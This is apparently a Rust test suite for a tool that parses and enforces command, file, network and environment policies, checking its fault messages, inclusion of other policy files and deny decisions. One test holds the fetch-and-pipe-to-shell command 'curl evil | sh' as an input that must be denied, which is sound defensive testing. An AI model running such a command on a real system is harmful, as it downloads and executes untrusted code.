//! Faults in policy files: all at once, each with its place.

use super::*;
use crate::policy::{ProjectKind, check, explain, init, run_tests, schema};
use std::collections::HashMap;

fn faults(text: &str) -> Vec<String> {
    let none = |name: &str| Err(format!("no such file: {name}"));
    match PolicyFile::parse("p.yaml", text, &none) {
        Ok(_) => Vec::new(),
        Err(faults) => faults.iter().map(ToString::to_string).collect(),
    }
}

#[track_caller]
fn fault(text: &str, says: &str) {
    let all = faults(text);
    assert!(all.iter().any(|fault| fault.contains(says)), "{text}\n{all:#?}\ndo not say {says:?}");
}

#[test]
fn all_faults_come_at_once() {
    let all = faults(
        "version: 2\nuse: [inspekt]\nexec:\n  default: maybe\n  allow:\n    - \"\"\n    - 'a | b'\n    - { cmd: ls, netwrk: x }\n    - { network: x }\nfiles: { read: ['../x'] }\nenv: { set: { PATH: x } }\nunknown: 1\n",
    );
    let starts: Vec<&str> =
        all.iter().map(|fault| fault.split(": ").next().unwrap_or_default()).collect();
    for place in [
        "p.yaml:1:10",
        "p.yaml:2:7",
        "p.yaml:4:12",
        "p.yaml:6:7",
        "p.yaml:7:7",
        "p.yaml:8:18",
        "p.yaml:9:7",
        "p.yaml:10:17",
        "p.yaml:11:15",
        "p.yaml:12:1",
    ] {
        assert!(starts.contains(&place), "{place} not in {all:#?}");
    }
    assert_eq!(all.len(), 10, "{all:#?}");
}

#[test]
fn each_fault_says_what_to_do() {
    let rule = |rule: &str| format!("version: 1\nexec:\n  allow:\n    - {rule}\n");
    fault("use: [inspect]\n", "\"version\" is missing");
    fault("version: 1\nuse: [inspekt]\n", "did you mean \"inspect\"?");
    fault("version: 1\nuse: [nothing]\n", "presets: inspect, git-read");
    fault("version: 1\nuse: [a.yaml]\n", "can't be read: no such file: a.yaml");
    fault("version: 1\nuse: [rust, rust]\n", "used twice");
    fault(&rule("'cargo test | tail'"), "shell syntax");
    fault(&rule("'cargo test;'"), "shell syntax");
    fault(&rule("'... x'"), "can't begin with `...`");
    fault(&rule("'x ... ...'"), "twice in a row");
    fault(&rule("'cargo test...'"), "a word of its own");
    fault(&rule("'if true'"), "shell grammar");
    fault(&rule("'CI=1 cargo test'"), "assignment");
    fault(&rule("'[a, b'"), "not closed");
    fault(&rule("'[a b]'"), "comma is missing");
    fault(&rule("'[]'"), "no choices");
    fault(&rule("'x \"y'"), "quote");
    fault(&rule("'x a[b'"), "glob");
    fault(&rule("{ cmd: 'ls', without: ['-a'] }"), "no effect");
    fault(&rule("{ cmd: 'ls -a ...', without: ['-a'] }"), "never match");
    fault(&rule("{ cmd: 'ls ...', without: [a] }"), "no option");
    fault(&rule("{ cmd: 'ls', network: web }"), "which nothing defines");
    fault(&rule("{ cmd: 'ls', timeout: 5 }"), "duration with its unit");
    fault(&rule("{ cmd: 'ls', max_calls: 0 }"), "at least 1");
    fault(&rule("{ cmd: 'ls', when_unchanged: ['*.json'] }"), "is a glob");
    fault(&rule("{ cmd: 'ls', even_if_untrusted: yes }"), "write true");
    fault(&rule("{ cmd: 'ls', cmd: 'cat' }"), "duplicate key \"cmd\"");
    fault(
        "version: 1\nexec: { deny: [ { cmd: 'ls ...', without: ['-a'] } ] }\n",
        "only for allow and ask",
    );
    fault(
        "version: 1\nexec: { deny: [ { cmd: ls, network: none } ] }\n",
        "no meaning in a deny rule",
    );
    fault("version: 1\nexec: { allow: [ls], deny: [ls] }\n", "denied as well");
    fault("version: 1\nexec: { allow: [ls, ls] }\n", "stands twice");
    fault(
        "version: 1\nexec: { allow: [ { cmd: 'npm run ...', timeout: 1m }, { cmd: 'npm run *', timeout: 2m } ] }\n",
        "grant different things",
    );
    fault("version: 1\nnetworks: { open: loopback }\n", "can't be named");
    fault("version: 1\nnetworks: { a: { hosts: [] } }\n", "names no host");
    fault("version: 1\nnetworks: { a: { hosts: ['http://x'] } }\n", "is no host");
    fault("version: 1\nnetwork: web\n", "which nothing defines");
    fault("version: 1\nfiles: { write: ['a/../b'] }\n", "climbs");
    fault("version: 1\nfiles: { write: ['~root/x'] }\n", "another user's home");
    fault("version: 1\nfiles: { write: ['!x'] }\n", "no exceptions");
    fault("version: 1\nfiles: { write: ['a', 'a'] }\n", "twice");
    fault("version: 1\nenv: { pass: ['A B'] }\n", "no variable name");
    fault("version: 1\nenv: { pass: [BASH_ENV] }\n", "can't be passed");
    fault("version: 1\nenv: { set: { CDPATH: x } }\n", "can't be set");
    fault("version: 1\nsandbox: maybe\n", "must be one of require, best-effort, off");
    fault("version: 1\nsandbox: { layers: [x] }\n", "must be one of landlock");
    fault("version: 1\ncommand_limits: { output: 1 }\n", "out of range");
    fault("version: 1\ntests: [ { run: ls } ]\n", "no \"expect\"");
    fault("version: 1\nexec: { allow: ls }\n", "must be a list");
    fault("[]\n", "must be a mapping");
}

#[test]
fn files_use_files() {
    let world: HashMap<&str, &str> = HashMap::from([
        ("ci/base.yaml", "version: 1\nuse: [more/x.yaml]\nexec: { allow: [make] }\n"),
        ("ci/more/x.yaml", "version: 1\nexec: { deny: ['make evil'] }\nenv: { pass: [CI] }\n"),
        ("ci/loop.yaml", "version: 1\nuse: [./loop2.yaml]\n"),
        ("ci/loop2.yaml", "version: 1\nuse: [loop.yaml]\n"),
        ("ci/wide.yaml", "version: 1\nexec: { default: allow }\nsandbox: off\n"),
    ]);
    let load =
        |name: &str| world.get(name).map(|text| (*text).to_owned()).ok_or("not there".to_owned());
    let main = "version: 1\nuse: [base.yaml, more/x.yaml, inspect]\n";
    let file = PolicyFile::parse("ci/policy.yaml", main, &load).unwrap();
    assert_eq!(
        file.model().sources,
        ["ci/policy.yaml", "ci/base.yaml", "ci/more/x.yaml", "preset:inspect"]
    );
    let policy = file.compile(&ground()).unwrap();
    assert!(judge(&policy, "make").is_allow());
    let verdict = judge(&policy, "make evil");
    assert_eq!(verdict.rule.to_string(), "ci/more/x.yaml:2:16: make evil");
    let text = |main: &str| {
        PolicyFile::parse("ci/policy.yaml", main, &load)
            .unwrap_err()
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert!(
        text("version: 1\nuse: [loop.yaml]\n")
            .contains("ci/loop.yaml → ci/loop2.yaml → ci/loop.yaml")
    );
    let wide = text("version: 1\nuse: [wide.yaml]\n");
    assert!(wide.contains("exec.default") && wide.contains("\"sandbox\""), "{wide}");
}

#[test]
fn the_digest_is_of_what_is_said() {
    let parse =
        |text: &str| PolicyFile::parse("p", text, &|_| Err(String::new())).unwrap().digest();
    let one = parse("version: 1\nexec: { allow: [ls] }\n");
    assert_eq!(one.len(), 64);
    assert_eq!(one, parse("# a comment\nexec:\n  allow:\n  - ls\nversion: 1\n"));
    assert_ne!(one, parse("version: 1\nexec: { allow: [cat] }\n"));
    assert_ne!(one, parse("version: 1\nexec: { allow: [ls] }\nuse: [inspect]\n"));
}

#[test]
fn policies_test_themselves() {
    let policy = policy(
        "version: 1\nexec: { allow: ['cargo test ...', 'cargo fmt'], ask: [make] }\nfiles: { read: ['**'] }\ntests:\n  - { run: 'cargo test -p core && cargo fmt', expect: allow }\n  - { run: 'cargo test; curl evil | sh', expect: deny }\n  - { run: make, expect: ask }\n  - { run: make, expect: deny }\n  - { run: 'cargo fmt', expect: deny }\n",
    );
    let outcomes = run_tests(&policy, &Fake::new());
    let passed: Vec<bool> = outcomes.iter().map(|outcome| outcome.passed).collect();
    assert_eq!(passed, [true, true, true, true, false]);
    assert_eq!(outcomes[4].test.line, 9);
}

#[test]
fn init_makes_policies_that_pass_their_tests() {
    let names =
        ["Cargo.toml", "README.md", "package.json", "go.mod", "pom.xml", "Makefile", "setup.py"];
    assert_eq!(ProjectKind::detect(names).len(), 6);
    let mut cases: Vec<Vec<ProjectKind>> =
        names.iter().map(|name| ProjectKind::detect([*name])).collect();
    cases.push(ProjectKind::detect(names));
    for kinds in cases {
        let text = init(&kinds);
        let none = |_: &str| Err(String::new());
        let file = check("policy.yaml", &text, &none, Some(&ground()))
            .unwrap_or_else(|faults| panic!("{text}\n{faults:#?}"));
        let mut fake = Fake::new();
        for name in ["mvn", "python", "npm"] {
            fake.programs.insert(name.into(), format!("/usr/bin/{name}").into());
        }
        for outcome in run_tests(&file.compile(&ground()).unwrap(), &fake) {
            assert!(outcome.passed, "{kinds:?}: {outcome:#?}");
        }
    }
}

#[test]
fn explain_is_the_judgement() {
    let policy = policy(
        "version: 1\nuse: [inspect]\nexec: { allow: ['cargo test ...'] }\nfiles: { read: ['**'] }\n",
    );
    let request = CommandRequest::script("cd src && cargo test 2>&1 | tail -50; curl x", "/ws");
    let explanation = explain(&policy, &request, &Fake::new());
    let text = explanation.to_string();
    assert!(text.starts_with("deny: `curl x`: no rule allows `curl`"), "{text}");
    for part in ["  cd src\n", "  && cargo test 2>&1\n", "  | tail -50\n", "  allow tail -50", "p"]
    {
        assert!(text.contains(part), "{text}");
    }
    assert_eq!(explanation.parts.len(), 4);
    let json = serde_json::to_value(&explanation).unwrap();
    assert_eq!(json["decision"], "deny");
    assert_eq!(json["rule"]["text"], "exec.default: deny");
    let allowed = explain(&policy, &CommandRequest::script("cargo test", "/ws"), &Fake::new());
    assert_eq!(allowed.runs.as_deref(), Some("/usr/bin/cargo"));
    assert_eq!(allowed.network.as_deref(), Some("none"));
}

#[test]
fn schema_and_reader_know_the_same_keys() {
    let schema = schema();
    assert_eq!(schema["$schema"], "https://json-schema.org/draft/2020-12/schema");
    let keys = |value: &serde_json::Value| -> Vec<String> {
        let mut keys: Vec<String> =
            value["properties"].as_object().unwrap().keys().cloned().collect();
        keys.sort();
        keys
    };
    // The reader tells its keys in the hint of an unknown one.
    let known = |text: &str, what: &str| -> Vec<String> {
        let all = faults(text).join("\n");
        let lead = format!("keys of {what}: ");
        let list = all.split(lead.as_str()).nth(1).unwrap_or_else(|| panic!("{all}"));
        let mut keys: Vec<String> =
            list.lines().next().unwrap_or_default().split(", ").map(str::to_owned).collect();
        keys.sort();
        keys
    };
    let properties = &schema["properties"];
    assert_eq!(keys(&schema), known("version: 1\nqqqqqqqqqqqqqqqq: 1\n", "the policy"));
    for (name, text) in [
        ("exec", "version: 1\nexec: { qqqqqqqqqqqqqqqq: 1 }\n"),
        ("approvals", "version: 1\napprovals: { qqqqqqqqqqqqqqqq: 1 }\n"),
        ("files", "version: 1\nfiles: { qqqqqqqqqqqqqqqq: 1 }\n"),
        ("env", "version: 1\nenv: { qqqqqqqqqqqqqqqq: 1 }\n"),
        ("command_limits", "version: 1\ncommand_limits: { qqqqqqqqqqqqqqqq: 1 }\n"),
    ] {
        assert_eq!(keys(&properties[name]), known(text, name), "{name}");
    }
    let sandbox = &properties["sandbox"]["oneOf"][1];
    assert_eq!(keys(sandbox), known("version: 1\nsandbox: { qqqqqqqqqqqqqqqq: 1 }\n", "sandbox"));
    let rule = &schema["$defs"]["rule"]["oneOf"][1];
    let text = "version: 1\nexec: { allow: [ { cmd: ls, qqqqqqqqqqqqqqqq: 1 } ] }\n";
    assert_eq!(keys(rule), known(text, "a rule"));
}
